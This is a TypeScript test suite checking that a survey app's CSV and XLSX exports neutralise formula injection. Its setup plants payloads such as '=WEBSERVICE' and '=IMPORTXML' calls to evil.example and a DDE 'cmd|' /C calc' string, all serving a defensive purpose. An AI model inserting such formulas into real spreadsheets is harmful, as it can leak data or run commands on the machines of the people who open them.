import type { FindingResponse, JourneyMapResponse, MapVersionResponse, SynthesisRunResponse } from '@tropa/contracts';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { ApiClient } from './api-client';
import { createTestApp, type TestApp } from './create-test-app';
import { evidenceAnswer } from './factories/synthesis-evidence';
import { firstUser } from './factories/user.factory';

/**
 * CSV injection: every text a user can put into a project and get back in a
 * spreadsheet (answers, question and choice titles, respondent keys, tag names and
 * descriptions, stage names, edited findings, quotes) starts here with a character
 * that makes Excel or LibreOffice read a formula. Every CSV and XLSX export the
 * server produces must show those cells as text: prefixed with `'`.
 */
const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];
const FORMULA_START = /^[=+\-@\t\r]/;
/** A plain number (a rating, a count) is data, not a formula, even when negative. */
const NUMBER = /^-?\d+(\.\d+)?$/;

function csvCells(body: string): string[] {
  const records = parse(body.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
  return records.flat();
}

async function xlsxCells(body: Buffer): Promise<Array<{ value: unknown; formula: boolean }>> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const cells: Array<{ value: unknown; formula: boolean }> = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) => row.eachCell((cell) => cells.push({ value: cell.value, formula: cell.type === ExcelJS.ValueType.Formula }))),
  );
  return cells;
}

/** The cells a spreadsheet would run as a formula. */
function unsafe(cells: readonly string[]): string[] {
  return cells.filter((cell) => FORMULA_START.test(cell) && !NUMBER.test(cell));
}

/** How many cells came out neutralised: the test must have put dangerous text in. */
function neutralised(cells: readonly string[]): number {
  return cells.filter((cell) => /^'[=+\-@\t\r]/.test(cell)).length;
}

describe('exports neutralise formula starts', () => {
  let testApp: TestApp;
  let owner: ApiClient;
  let projectId: string;
  let surveyId: string;
  let stages: Array<{ id: string; name: string }>;

  const api = (path: string) => `/api/projects/${projectId}${path}`;
  const download = async (path: string): Promise<Buffer> =>
    (
      await owner
        .get(path)
        .buffer(true)
        .parse((res, done) => {
          const chunks: Buffer[] = [];
          res.on('data', (chunk: Buffer) => chunks.push(chunk));
          res.on('end', () => done(null, Buffer.concat(chunks)));
        })
        .expect(200)
    ).body as Buffer;

  beforeAll(async () => {
    testApp = await createTestApp();
    owner = await firstUser(testApp);
    projectId = (await owner.createProject({ language: 'en' })).id;
    stages = (await owner.get(api('/stages')).expect(200)).body.items;
    await owner.patch(api(`/stages/${stages[4].id}`), { name: '=HYPERLINK("http://evil.example","Purchase")' }).expect(200);

    const definition = {
      pages: [
        {
          name: 'p1',
          elements: [
            { type: 'comment', name: 'story', title: '=Tell us about your last order', isRequired: true },
            { type: 'text', name: 'nick', title: '+Your nickname' },
            { type: 'radiogroup', name: 'channel', title: '@Channel', choices: [{ value: 'web', text: '=WEBSERVICE("http://evil.example")' }, { value: 'app', text: '-App' }] },
            { type: 'checkbox', name: 'extras', title: 'Extras', choices: [{ value: 'gift', text: '@Gift wrap' }, { value: 'note', text: 'Note' }] },
            { type: 'matrix', name: 'grid', title: 'Grid', columns: [{ value: 'ok', text: '+OK' }], rows: [{ value: 'speed', text: '=Speed' }] },
            { type: 'rating', name: 'csat', title: 'How satisfied were you?', rateMin: 1, rateMax: 5 },
          ],
        },
      ],
    };
    surveyId = ((await owner.post(api('/surveys'), { title: 'Orders', definition }).expect(201)).body as { id: string }).id;
    await owner
      .put(api(`/surveys/${surveyId}/mappings`), {
        mappings: [{ questionName: 'story', stageId: stages[4].id, touchpointId: null, personaAttribute: null, metric: null, jtbdPrompt: true }],
      })
      .expect(200);
    const token = (await owner.patch(api(`/surveys/${surveyId}`), { status: 'open' }).expect(200)).body.publicToken as string;
    for (let i = 0; i < 40; i++) {
      const start = DANGEROUS[i % DANGEROUS.length];
      await owner
        .post(`/api/public/surveys/${token}/responses`, {
          respondentKey: `-respondent-${i}`,
          answers: { story: `${start}${evidenceAnswer(i)}`, nick: `${start}cmd|' /C calc'!A0`, channel: i % 2 ? 'web' : 'app', extras: ['gift', 'note'], grid: { speed: 'ok' }, csat: 1 + (i % 5) },
        })
        .expect(201);
    }

    for (const [index, start] of DANGEROUS.entries()) {
      await owner.post(api('/tags'), { kind: 'custom', name: `${start}SUM(A1:A9) ${index}`, description: `${start}description ${index}` }).expect(201);
    }

    const run = (await owner.post(api('/synthesis/runs'), { seed: 5 }).expect(202)).body as SynthesisRunResponse;
    for (let i = 0; i < 300; i++) {
      const state = (await owner.get(api(`/synthesis/runs/${run.id}`)).expect(200)).body as SynthesisRunResponse;
      if (state.status === 'succeeded') break;
      if (state.status === 'failed') throw new Error(state.error ?? 'run failed');
      await new Promise((r) => setTimeout(r, 100));
    }
    const map = (await owner.get(api('/map')).expect(200)).body as JourneyMapResponse;
    const findings: FindingResponse[] = map.findings;
    for (const [index, finding] of findings.slice(0, DANGEROUS.length).entries()) {
      await owner.post(api(`/map/findings/${finding.id}/review`), { decision: 'edit', text: `${DANGEROUS[index]}IMPORTXML("http://evil.example") ${index}` }).expect(200);
    }
    await owner.post(api('/map/recommendations'), { text: '=Recommendation', impact: 3, effort: 2 }).expect(201);
  }, 120_000);
  afterAll(() => testApp.close());

  it('should neutralise every cell of the survey responses CSV', async () => {
    const cells = csvCells((await download(api(`/surveys/${surveyId}/export?format=csv`))).toString('utf8'));
    expect(unsafe(cells)).toEqual([]);
    // Answers, the question title, choice labels and respondent keys all came out as text.
    expect(cells).toEqual(expect.arrayContaining(["'=Tell us about your last order", "'+Your nickname", `'=WEBSERVICE("http://evil.example")`, "'-App", "'=Speed: +OK", "'@Gift wrap; Note"]));
    expect(neutralised(cells)).toBeGreaterThan(100);
  });

  it('should neutralise every string cell of the survey responses XLSX and write no formula', async () => {
    const cells = await xlsxCells(await download(api(`/surveys/${surveyId}/export?format=xlsx`)));
    expect(cells.filter((cell) => cell.formula)).toEqual([]);
    const strings = cells.map((cell) => cell.value).filter((value): value is string => typeof value === 'string');
    expect(unsafe(strings)).toEqual([]);
    expect(strings).toEqual(expect.arrayContaining(["'=Tell us about your last order", "'-App"]));
    expect(neutralised(strings)).toBeGreaterThan(100);
    // Non-string values are numbers (ratings), never rich text or hyperlinks a user controls.
    expect(cells.every((cell) => typeof cell.value === 'string' || typeof cell.value === 'number')).toBe(true);
  });

  it('should neutralise every cell of the codebook CSV', async () => {
    const cells = csvCells((await download(api('/tags/export?format=csv'))).toString('utf8'));
    expect(unsafe(cells)).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining(["'=SUM(A1:A9) 0", "'@description 3"]));
    expect(neutralised(cells)).toBeGreaterThanOrEqual(8);
  });

  it('should neutralise every cell of the journey map CSV, current and published', async () => {
    const current = csvCells((await download(api('/map/export?format=csv'))).toString('utf8'));
    expect(unsafe(current)).toEqual([]);
    expect(current).toEqual(expect.arrayContaining([`'=HYPERLINK("http://evil.example","Purchase")`, `'=IMPORTXML("http://evil.example") 0`]));
    expect(neutralised(current)).toBeGreaterThanOrEqual(DANGEROUS.length);

    const version = (await owner.post(api('/map/versions')).expect(201)).body as MapVersionResponse;
    const published = csvCells((await download(api(`/map/export?format=csv&versionId=${version.id}`))).toString('utf8'));
    expect(unsafe(published)).toEqual([]);
    expect(published).toEqual(expect.arrayContaining([`'=IMPORTXML("http://evil.example") 0`]));
  });
});
